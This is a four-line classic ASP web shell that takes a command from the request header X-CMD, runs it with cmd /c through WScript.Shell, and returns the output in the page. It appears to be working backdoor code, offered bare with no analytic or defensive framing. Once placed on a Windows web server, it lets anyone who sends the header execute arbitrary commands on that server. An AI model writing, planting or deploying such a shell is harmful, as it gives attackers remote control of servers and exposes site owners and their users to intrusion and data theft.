<%
Dim c : c = Request.ServerVariables("HTTP_X_CMD")
Set w = Server.CreateObject("WScript.Shell")
Response.Write w.Exec("cmd /c " & c).StdOut.ReadAll
%>
